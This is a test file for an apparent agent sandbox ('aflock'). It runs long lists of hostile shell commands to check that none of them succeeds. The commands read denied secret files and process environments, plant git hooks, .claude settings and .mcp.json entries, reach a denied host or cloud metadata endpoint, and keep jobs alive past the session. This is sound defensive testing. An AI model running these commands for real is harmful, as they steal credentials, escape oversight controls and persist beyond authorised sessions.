// The OS sandbox, through the real server's `bash` tool: every command of the attack list has no effect (a canary
// secret never comes out, a read-only file's SHA-256 does not change, a local HTTP server standing in for a denied
// host gets no connection, the server's environment stays unseen, no process outlives its call or the server),
// and ordinary work still runs. The policy has no Bash deny rules, so the analyzer's strict mode is off and many
// attacks reach the kernel: the test counts how many ran, so it is the sandbox that is measured.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { RpcServer, actionPredicates, json, tempDir, testLeg, text, type ToolResult } from '../helpers/rpc.ts';

const leg = testLeg();
const ENV_CANARY = 'sk-ant-canary-7f3a9e1d';
const FILE_CANARY = 'canary-dotenv-51c0';
const KEY_CANARY = 'canary-secrets-key-88b2';
const PEM_CANARY = 'canary-pem-3d1f';
const hasBwrap = spawnSync('sh', ['-c', 'command -v bwrap && command -v socat'], { stdio: 'ignore' }).status === 0;

const cleanup: string[] = [];
const servers: Server[] = [];

function sha(p: string): string {
  return createHash('sha256').update(readFileSync(p)).digest('hex');
}

function listen(handler: (path: string) => string): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.end(handler(req.url ?? ''));
  });
  server.on('connect', (req, socket) => {
    hits.push(`CONNECT ${req.url}`);
    socket.destroy();
  });
  server.on('connection', () => hits.push('tcp'));
  servers.push(server);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ server, port: (server.address() as { port: number }).port, hits })));
}

function makeProject(): string {
  const root = tempDir('aflock-sbx-');
  cleanup.push(root);
  const files: Record<string, string> = {
    '.env': `API_KEY=${FILE_CANARY}\n`,
    'config/.env': `NESTED=${FILE_CANARY}\n`,
    'secrets/key.txt': `${KEY_CANARY}\n`,
    'certs/server.pem': `${PEM_CANARY}\n`,
    'a.txt': 'line one\nline two\n',
    'src/main.js': 'console.log("hello from src")\n// TODO: findme\n',
    'package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node -e "console.log(\'tests pass\')"', build: 'mkdir -p dist && cp src/main.js dist/main.js' } }),
  };
  for (const [rel, content] of Object.entries(files)) {
    mkdirSync(join(root, rel, '..'), { recursive: true });
    writeFileSync(join(root, rel), content);
  }
  const git = (...a: string[]) => execFileSync('git', a, { cwd: root, stdio: 'ignore', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } });
  git('init', '-q', '-b', 'main');
  git('config', 'user.name', 'Sandbox Test');
  git('config', 'user.email', 'sandbox@test.invalid');
  writeFileSync(join(root, '.gitignore'), '.env\nsecrets/\ncerts/\n');
  writeFileSync(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  git('add', '-A');
  git('commit', '-q', '-m', 'initial');
  return root;
}

function policy(extra: Record<string, unknown> = {}): object {
  return {
    tools: { allow: ['Bash', 'Read', 'Write'] },
    files: {
      deny: ['**/.env', '**/*.pem', 'secrets/**'],
      readOnly: ['.aflock', '.claude/**', '.mcp.json', '.git/config', '.git/hooks/**', '.git/info/attributes'],
    },
    // `localhost` named exactly: the allowed test server. The denied one listens on the same address, so every
    // attack below spells the address (or routes around the name) instead.
    domains: { allow: ['localhost'], deny: ['evil.example'] },
    ...extra,
  };
}

function serverEnv(home: string): NodeJS.ProcessEnv {
  return { ...process.env, AFLOCK_HOME: home, ANTHROPIC_API_KEY: ENV_CANARY, GITHUB_TOKEN: `ghp_${ENV_CANARY}`, AWS_SECRET_ACCESS_KEY: ENV_CANARY };
}

async function start(root: string, pol: object, args: string[] = []): Promise<RpcServer> {
  writeFileSync(join(root, '.aflock'), JSON.stringify(pol, null, 2));
  const home = tempDir('aflock-sbx-home-');
  cleanup.push(home);
  const s = new RpcServer(args, { cwd: root, env: serverEnv(home) });
  await s.initialize();
  return s;
}

/** Runs a command; returns whether it ran (the analyzer let it through) and everything it printed. */
async function run(s: RpcServer, command: string, timeout = 20): Promise<{ ran: boolean; out: string; r: ToolResult }> {
  const r = await s.call('bash', { command, timeout }, 30000);
  if (r.isError && !r.structuredContent) return { ran: false, out: text(r), r };
  const j = json(r);
  return { ran: true, out: `${j.output ?? ''}\n${j.error ?? ''}`, r };
}

function pidsOf(marker: string): string[] {
  const r = spawnSync('pgrep', ['-f', marker], { encoding: 'utf8' });
  return r.stdout.split('\n').filter(Boolean);
}

const skip = !hasBwrap;
const maybe = skip ? test.skip : test;

maybe(`${leg}: files.deny is unreadable by any program: canaries never come out`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  try {
    const attacks = [
      'cat .env',
      'look S .env; look A .env',
      "sed 'r .env' a.txt",
      "git grep --no-index -h '' .env",
      'ptx .env',
      'python3 -m base64 .env | base64 -d',
      'ln -s secrets s && cat s/key.txt',
      'cd "$(echo secrets)" && cat key.txt',
      'cat ~+/secrets/key.txt',
      'cp -r secrets /tmp/x && cat /tmp/x/key.txt',
      'grep -r . secrets',
      'tar cf - secrets | tar xOf -',
      'eval "$(echo Y2F0IC5lbnYgY29uZmlnLy5lbnY= | base64 -d)"',
      'f=.e; cat ${f}nv config/${f}nv',
      'python3 -c "print(open(\'.env\').read()); print(open(\'secrets/key.txt\').read())"',
      'cat certs/*.pem; cat certs/server.pem',
      'for f in $(find . -name "*.pem" -o -name ".env"); do cat "$f"; done',
      'link .env pub.txt; cat pub.txt',
      'ln .env pub2.txt; cat pub2.txt',
      'mv .env moved.txt; cat moved.txt',
      'mv secrets s2; cat s2/key.txt',
      'mv config c2 && cat c2/.env',
      'dd if=.env 2>/dev/null',
      'vim -es -c "r .env" -c "%p" -c "q!" a.txt 2>/dev/null',
      'sqlite3 :memory: "select readfile(\'.env\')" 2>/dev/null',
      'curl -s -H @.env http://localhost:1/ 2>&1',
      'ls -la secrets; ls -la .',
    ];
    let ran = 0;
    for (const [i, cmd] of attacks.entries()) {
      const { out } = await run(s, cmd);
      for (const canary of [FILE_CANARY, KEY_CANARY, PEM_CANARY]) assert.not.ok(out.includes(canary), `${cmd} printed a canary: ${out.slice(0, 300)}`);
      // The analyzer refuses most of them as written; the same line inside a script file is text the analyzer cannot
      // read (`bash attack.sh` is allowed), so there the kernel alone must stop it.
      writeFileSync(join(root, `attack-${i}.sh`), `${cmd}\n`);
      const viaScript = await run(s, `bash attack-${i}.sh`);
      if (viaScript.ran) ran++;
      for (const canary of [FILE_CANARY, KEY_CANARY, PEM_CANARY]) assert.not.ok(viaScript.out.includes(canary), `${cmd} (in a script) printed a canary: ${viaScript.out.slice(0, 300)}`);
    }
    assert.is(ran, attacks.length, `only ${ran} of ${attacks.length} scripted attacks reached the sandbox`);
    // A hard link made in the sandbox to a denied file must not exist on the host to read later.
    for (const name of ['pub.txt', 'pub2.txt', 'moved.txt']) {
      if (existsSync(join(root, name))) assert.not.ok(readFileSync(join(root, name), 'utf8').includes(FILE_CANARY), name);
    }
    const pub = await s.call('read_file', { path: 'pub.txt' });
    assert.not.ok(text(pub).includes(FILE_CANARY));
    assert.is(readFileSync(join(root, '.env'), 'utf8'), `API_KEY=${FILE_CANARY}\n`, '.env was moved or changed');
    assert.ok(existsSync(join(root, 'secrets/key.txt')), 'secrets/ was moved');
  } finally {
    await s.close();
  }
});

maybe(`${leg}: files.readOnly paths, the policy file and everything outside the root stay unchanged`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  const watched = ['.aflock', '.git/config', '.git/hooks/pre-commit'];
  const before = Object.fromEntries(watched.map((p) => [p, sha(join(root, p))]));
  const outside = tempDir('aflock-sbx-outside-');
  cleanup.push(outside);
  writeFileSync(join(outside, 'victim.txt'), 'unchanged');
  try {
    const attacks = [
      'echo "[core]\n\tfsmonitor = touch PWNED" > cfg && cp cfg .git/config',
      'printf "[core]\\n\\tfsmonitor = touch PWNED\\n" >> .git/config',
      'mv .git g && mkdir .git && cp -r g/* .git/ && echo pwned > .git/config',
      'ln -s .git g2 && echo "touch PWNED" > g2/hooks/post-checkout && chmod +x g2/hooks/post-checkout',
      'echo "touch PWNED" > .git/hooks/pre-commit',
      'rm -rf .git/hooks',
      "sed -i 's/allow/deny/' .aflock",
      "sed -n 'w .aflock' a.txt",
      'gzip .aflock',
      'echo {} > .aflock',
      'git checkout -- .aflock',
      'mv .aflock x.aflock',
      'mkdir -p .claude && echo \'{"permissions":{"allow":["Bash"]}}\' > .claude/settings.local.json',
      'ln -s .claude c; echo {} > c/settings.local.json',
      'echo \'{"mcpServers":{"x":{"command":"touch","args":["PWNED"]}}}\' > .mcp.json',
      `echo changed > ${outside}/victim.txt`,
      'echo x > /etc/aflock-pwned; echo x > /usr/local/aflock-pwned',
    ];
    for (const cmd of attacks) await run(s, cmd);
    for (const p of watched) assert.is(sha(join(root, p)), before[p], `${p} changed`);
    assert.is(readFileSync(join(outside, 'victim.txt'), 'utf8'), 'unchanged');
    assert.not.ok(existsSync('/etc/aflock-pwned'));
    assert.not.ok(existsSync(join(root, '.claude/settings.local.json')), '.claude/settings.local.json was planted');
    assert.not.ok(existsSync(join(root, '.mcp.json')), '.mcp.json was planted');
    assert.not.ok(existsSync(join(root, '.git/hooks/post-checkout')), 'a hook was planted');
    // Nothing planted runs at the next git command.
    await run(s, 'git status >/dev/null 2>&1');
    assert.not.ok(existsSync(join(root, 'PWNED')), 'planted code ran');
  } finally {
    await s.close();
  }
});

maybe(`${leg}: the network is only the proxy: denied hosts, IP spellings and curl's routing options reach nothing`, async () => {
  const root = makeProject();
  const allowed = await listen(() => 'allowed-body');
  const denied = await listen(() => 'denied-body');
  const s = await start(root, policy());
  const d = denied.port;
  try {
    const ok = await run(s, `curl -s --max-time 5 http://localhost:${allowed.port}/hello`);
    assert.ok(ok.ran && ok.out.includes('allowed-body'), `the allowed host was not reachable: ${ok.out}`);
    const attacks = [
      `curl -s --max-time 3 http://127.0.0.1:${d}/`,
      `curl -s --max-time 3 'http://[::ffff:127.0.0.1]:${d}/'`,
      `curl -s --max-time 3 http://2130706433:${d}/`,
      `curl -s --max-time 3 http://0x7f.1:${d}/`,
      `curl -s --max-time 3 http://0:${d}/`,
      `curl -s --max-time 3 http://127.1:${d}/`,
      `curl -s --max-time 3 --noproxy '*' http://127.0.0.1:${d}/`,
      `curl -s --max-time 3 --connect-to ::127.0.0.1:${d} http://evil.example/`,
      `curl -s --max-time 3 --resolve evil.example:${d}:127.0.0.1 http://evil.example:${d}/`,
      `curl -s --max-time 3 'http://{evil.example,127.0.0.1}:${d}/'`,
      `https_proxy= http_proxy= curl -s --max-time 3 http://127.0.0.1:${d}/`,
      `echo 'url="http://127.0.0.1:${d}/"' | curl -s --max-time 3 -K -`,
      `exec 3<>/dev/tcp/127.0.0.1/${d} && echo -e 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
      `python3 -c "import socket; s=socket.create_connection(('127.0.0.1', ${d}), 3); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))"`,
      `node -e "require('http').get('http://127.0.0.1:${d}/', r => r.pipe(process.stdout)).on('error', e => console.log(e.code))"`,
      `printf 'CONNECT 127.0.0.1:${d} HTTP/1.1\\r\\n\\r\\n' | socat - TCP:127.0.0.1:3128`,
      `curl -s --max-time 3 -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/`,
      `timeout 5 openssl s_client -connect 127.0.0.1:${d} </dev/null 2>&1 | head -3`,
      `timeout 10 pip download --no-deps -d /tmp/p --index-url http://127.0.0.1:${d}/simple requests 2>&1 | tail -2`,
      `git ls-remote http://127.0.0.1:${d}/repo.git 2>&1 | tail -1`,
    ];
    for (const cmd of attacks) {
      const { out } = await run(s, cmd);
      assert.not.ok(out.includes('denied-body'), `${cmd} reached the denied host: ${out.slice(0, 200)}`);
    }
    assert.equal(denied.hits, [], `the denied host got connections: ${denied.hits.join(', ')}`);
  } finally {
    await s.close();
  }
});

maybe(`${leg}: the server's environment and process are invisible to commands`, async () => {
  const root = makeProject();
  const s = await start(root, policy({ sandbox: { env: ['MY_BUILD_FLAG'] } }));
  try {
    const probes = ['env', 'printenv', 'awk "BEGIN { for (k in ENVIRON) print k\\"=\\"ENVIRON[k] }"', 'ps eww -p $PPID', 'ps auxeww', 'cat /proc/$PPID/environ', 'cat /proc/1/environ', 'for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null; done', 'make -p -f /dev/null 2>/dev/null | grep -i key'];
    let ran = 0;
    for (const cmd of probes) {
      const { ran: r, out } = await run(s, cmd);
      if (r) ran++;
      assert.not.ok(out.includes(ENV_CANARY), `${cmd} printed the server's environment`);
    }
    assert.ok(ran >= probes.length - 2, `${ran} of ${probes.length} ran`);
    const env = (await run(s, 'env')).out;
    assert.match(env, /^PATH=/m);
    assert.match(env, /^TMPDIR=\/tmp$/m);
    const ps = (await run(s, 'ps -e -o pid=,comm=')).out;
    assert.not.ok(/node|aflock|deno/.test(ps), `the server is visible: ${ps}`);
  } finally {
    await s.close();
  }
});

maybe(`${leg}: no command outlives its call or the server; a background job does not hold the call`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  const tag = String(7000 + Math.floor(Math.random() * 900));
  try {
    const t0 = Date.now();
    const bg = await run(s, `sleep ${tag}1 &`);
    assert.ok(Date.now() - t0 < 5000, `a background job held the call ${Date.now() - t0} ms`);
    assert.ok(bg.ran);
    assert.is(json(bg.r).exitCode, 0);
    assert.is(json(bg.r).error, undefined);
    for (const cmd of [`sleep ${tag}2 >/dev/null 2>&1 &`, `setsid sleep ${tag}3 >/dev/null 2>&1 < /dev/null &`, `(nohup sleep ${tag}4 >/dev/null 2>&1 &)`, `setsid -f sleep ${tag}5`]) {
      await run(s, cmd);
    }
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(pidsOf(`sleep ${tag}[1-5]`), [], 'a command outlived its call');
    // A command still running when the server dies hard dies with it.
    const inflight = s.call('bash', { command: `sleep ${tag}6`, timeout: 60 }, 60000).catch(() => undefined);
    for (let i = 0; i < 50 && pidsOf(`sleep ${tag}6`).length === 0; i++) await new Promise((r) => setTimeout(r, 100));
    assert.ok(pidsOf(`sleep ${tag}6`).length > 0, 'the in-flight command never started');
    s.kill();
    await s.exited;
    // `pgrep -f` also matches bwrap's own command line, which carries the command, so the kill may land while
    // bubblewrap is still starting: there the death signal can miss (the survivor seen under Deno on 2026-12-01,
    // docs/threat-model-gaps.md §7), and the lifeline is what ends the sandbox (the server's end of its stdin closes;
    // test/sandbox/lifeline.test.ts checks it without the signal). Either acts at once; tearing down the namespaces
    // can take seconds on a loaded machine: wait up to 10 s. A survivor fails here.
    for (let i = 0; i < 100 && pidsOf(`sleep ${tag}6`).length > 0; i++) await new Promise((r) => setTimeout(r, 100));
    assert.equal(pidsOf(`sleep ${tag}6`), [], 'a command outlived the server');
    void inflight;
  } finally {
    s.kill();
  }
});

maybe(`${leg}: a command's stdin is empty (/dev/null), and the lifeline is held by bubblewrap and its watcher alone`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  try {
    // `cat` reads its stdin to EOF: it would hang until the timeout if stdin were the lifeline pipe. The lifeline is
    // bwrap's stdin (the namespace's pid 1 got it from the outer bwrap); every descriptor in the sandbox that is the
    // same pipe is listed: the command, its shell and the proxy relay must hold none.
    const probe = [
      'cat; echo "stdin $(readlink /proc/$$/fd/0)"; echo "shell $$"',
      'l=$(readlink /proc/1/fd/0); echo "lifeline $l"',
      'for f in /proc/[0-9]*/fd/*; do [[ $(readlink "$f" 2>/dev/null) == "$l" ]] && echo "holder $f"; done; true',
    ].join('\n');
    const t0 = Date.now();
    const r = await run(s, probe, 10);
    assert.ok(Date.now() - t0 < 5000, `cat waited ${Date.now() - t0} ms for its stdin`);
    assert.is(json(r.r).exitCode, 0, r.out);
    assert.match(r.out, /^stdin \/dev\/null$/m);
    assert.match(r.out, /^lifeline (pipe|socket):\[\d+\]$/m);
    const shell = /^shell (\d+)$/m.exec(r.out)![1];
    const holders = [...r.out.matchAll(/^holder \/proc\/(\d+)\/fd\/(\d+)$/gm)].map((m) => ({ pid: m[1], fd: m[2] }));
    assert.equal(holders.map((h) => h.fd), ['0', '3'], r.out); // pid 1 sorts first: bwrap's init, then the watcher
    assert.is(holders[0].pid, '1');
    assert.is.not(holders[1].pid, shell, 'the command\'s shell holds the lifeline');
  } finally {
    await s.close();
  }
});

maybe(`${leg}: a command inherits no descriptor but stdin, stdout and stderr (under Deno the proxy's socket once did)`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  try {
    // The shell's own descriptors, listed after the glob has closed the one it read the directory with; and every
    // socket any process in the namespace holds (the proxy relay's own are TCP and its Unix connection, not a listener).
    const r = await run(s, 'for f in /proc/$$/fd/*; do [[ -e $f ]] && echo "fd ${f##*/} $(readlink $f)"; done; true', 10);
    assert.is(json(r.r).exitCode, 0, r.out);
    assert.equal([...r.out.matchAll(/^fd (\d+) /gm)].map((m) => m[1]), ['0', '1', '2'], r.out);
    const listeners = await run(s, 'grep -c "^[0-9a-f]*: [0-9]* [0-9]* [0-9]* 00010000 " /proc/net/unix || true', 10);
    assert.match(listeners.out, /^0$/m, `a listening Unix socket is visible in the sandbox: ${listeners.out}`);
  } finally {
    await s.close();
  }
});

maybe(`${leg}: ordinary work runs: git status and commit, npm test, sed -i, mkdir, new files, grep -r, a build into dist/`, async () => {
  const root = makeProject();
  const s = await start(root, policy());
  try {
    const steps: [string, RegExp][] = [
      ['git status --short', /^$|\S/],
      ["sed -i 's/one/ONE/' a.txt && cat a.txt", /line ONE/],
      ['mkdir -p notes/deep && echo hi > notes/deep/new.txt && cat notes/deep/new.txt', /^hi$/m],
      ['grep -rn findme src', /src\/main.js:2/],
      ['npm test 2>&1', /tests pass/],
      ['npm run build >/dev/null 2>&1 && ls dist', /main.js/],
      ["git add -A && git commit -q -F - <<'EOF'\nA commit from the sandbox\n\nWith a body.\nEOF\ngit log --oneline -1", /A commit from the sandbox/],
      ['t=$(mktemp) && echo tmp > "$t" && cat "$t"', /^tmp$/m],
      ['echo "$HOME" && touch ~/.cache-test && echo home-writable', /home-writable/],
    ];
    for (const [cmd, expect] of steps) {
      const { ran, out, r } = await run(s, cmd);
      assert.ok(ran, `${cmd} was refused: ${out}`);
      assert.is(json(r).exitCode, 0, `${cmd}: ${out}`);
      assert.match(out, expect, cmd);
    }
    assert.is(readFileSync(join(root, 'a.txt'), 'utf8'), 'line ONE\nline two\n');
    assert.ok(existsSync(join(root, 'dist/main.js')));
    const log = execFileSync('git', ['log', '--format=%s', '-1'], { cwd: root, encoding: 'utf8' });
    assert.is(log.trim(), 'A commit from the sandbox');
  } finally {
    await s.close();
  }
});

maybe(`${leg}: the sandbox mode is in get_policy, get_identity and every audit record; off only when asked`, async () => {
  const root = makeProject();
  const home = tempDir('aflock-sbx-home-');
  cleanup.push(home);
  writeFileSync(join(root, '.aflock'), JSON.stringify(policy()));
  const on = new RpcServer([], { cwd: root, env: { ...serverEnv(home) } });
  await on.initialize();
  const pol = json(await on.call('get_policy'));
  assert.equal(pol.sandbox, { mode: 'on', kind: 'bubblewrap', state: 'ready', network: 'proxy' });
  assert.is(json(await on.call('get_identity')).sandbox.mode, 'on');
  await on.call('bash', { command: 'true' });
  await on.close();
  const off = new RpcServer(['--no-sandbox'], { cwd: root, env: { ...serverEnv(home) } });
  await off.initialize();
  assert.is(json(await off.call('get_policy')).sandbox.kind, 'off (--no-sandbox)');
  // Unconfined, the same read prints the canary: the attacks above are stopped by the sandbox, not by chance.
  const leak = json(await off.call('bash', { command: 'f=.e; cat ${f}nv' }));
  assert.ok(leak.output.includes(FILE_CANARY), 'control: the unconfined read should work');
  await off.close();
  assert.match(off.stderr, /sandbox OFF/);
  const sessions = join(home, 'sessions');
  const records = (await import('node:fs')).readdirSync(sessions).flatMap((d) => actionPredicates(join(sessions, d)));
  const labels = new Set(records.map((p: any) => p.sandbox));
  assert.ok(labels.has('bubblewrap') && labels.has('off (--no-sandbox)'), [...labels].join(','));
  assert.ok(records.every((p: any) => typeof p.sandbox === 'string'), 'a record without the sandbox mode');
});

test(`${leg}: unsandboxed too, a background job does not hold the call and its process group dies with it`, async () => {
  const root = makeProject();
  const s = await start(root, policy(), ['--no-sandbox']);
  const tag = String(8000 + Math.floor(Math.random() * 900));
  try {
    const t0 = Date.now();
    const bg = await run(s, `sleep ${tag}1 &`);
    assert.ok(Date.now() - t0 < 5000, `a background job held the call ${Date.now() - t0} ms`);
    assert.is(json(bg.r).exitCode, 0);
    assert.is(json(bg.r).error, undefined);
    await new Promise((r) => setTimeout(r, 200));
    // Deno refuses process.kill under a restricted --allow-run list (NotCapable), so unsandboxed it cannot kill the
    // group; the sandbox's PID namespace is what holds there (docs/sandbox.md).
    if (leg !== 'deno') assert.equal(pidsOf(`sleep ${tag}1`), []);
    else for (const pid of pidsOf(`sleep ${tag}1`)) process.kill(Number(pid), 'SIGKILL');
  } finally {
    await s.close();
  }
});

test(`${leg}: fail closed: without bubblewrap, bash refuses with "Sandbox unavailable" and the server says so at start`, async () => {
  const root = makeProject();
  const home = tempDir('aflock-sbx-home-');
  cleanup.push(home);
  writeFileSync(join(root, '.aflock'), JSON.stringify(policy()));
  const bin = tempDir('aflock-sbx-bin-');
  cleanup.push(bin);
  const { symlinkSync } = await import('node:fs');
  for (const t of ['bash', 'sh', 'deno']) {
    const r = spawnSync('sh', ['-c', `command -v ${t}`], { encoding: 'utf8' });
    if (r.status === 0) symlinkSync(r.stdout.trim(), join(bin, t));
  }
  const s = new RpcServer([], { cwd: root, env: { ...serverEnv(home), PATH: bin } });
  try {
    await s.initialize();
    const r = await s.call('bash', { command: 'echo should-not-run' });
    assert.ok(r.isError);
    assert.match(text(r), /^Sandbox unavailable: bubblewrap \(bwrap\) is not on PATH; install it: apt-get install -y bubblewrap socat/);
    assert.is(json(await s.call('get_policy')).sandbox.state, 'unavailable');
    await s.close();
    assert.match(s.stderr, /Sandbox unavailable: .*every bash command will be refused/);
  } finally {
    s.kill();
  }
});

maybe(`${leg}: the sandbox command: same sandbox, stdio passed through, the command's exit status, 126 when unavailable`, async () => {
  const root = makeProject();
  const home = tempDir('aflock-sbx-home-');
  cleanup.push(home);
  writeFileSync(join(root, '.aflock'), JSON.stringify(policy()));
  const env = { ...serverEnv(home) };
  const { runCli } = await import('../helpers/rpc.ts');
  const r = await runCli(['sandbox', '--', 'bash', '-c', 'cat; cat .env; env; exit 7'], { cwd: root, env, input: 'from-stdin\n' });
  assert.is(r.code, 7, r.stderr);
  assert.match(r.stdout, /^from-stdin$/m);
  assert.not.ok(r.stdout.includes(FILE_CANARY) || r.stdout.includes(ENV_CANARY), r.stdout);
  assert.match(r.stderr, /\.env: Permission denied/);
  const words = await runCli(['sandbox', '--policy', join(root, '.aflock'), '--workdir', 'src', '--', 'printf', '%s|', 'a b', "it's", '$HOME'], { cwd: root, env });
  assert.is(words.code, 0, words.stderr);
  assert.is(words.stdout, "a b|it's|$HOME|", 'arguments are passed as words, not re-parsed by a shell');
  const outside = await runCli(['sandbox', '--workdir', '/', '--', 'true'], { cwd: root, env });
  assert.is(outside.code, 126);
  const bin = tempDir('aflock-sbx-bin2-');
  cleanup.push(bin);
  const { symlinkSync } = await import('node:fs');
  for (const t of ['bash', 'deno']) {
    const w = spawnSync('sh', ['-c', `command -v ${t}`], { encoding: 'utf8' });
    if (w.status === 0) symlinkSync(w.stdout.trim(), join(bin, t));
  }
  const none = await runCli(['sandbox', '--', 'echo', 'should-not-run'], { cwd: root, env: { ...env, PATH: bin } });
  assert.is(none.code, 126);
  assert.is(none.stdout, '');
  // Exactly one line from us (Deno adds its own "Failed to resolve 'bwrap' for allow-run" notice before it).
  const ours = leg === 'deno' ? none.stderr.replace(/^.*Failed to resolve 'bwrap'.*\n/m, '') : none.stderr;
  assert.match(ours, /^Sandbox unavailable: bubblewrap \(bwrap\) is not on PATH; install it: .*\n$/);
});

test.after(() => {
  for (const srv of servers) srv.close();
  for (const d of cleanup) rmSync(d, { recursive: true, force: true });
});

test.run();
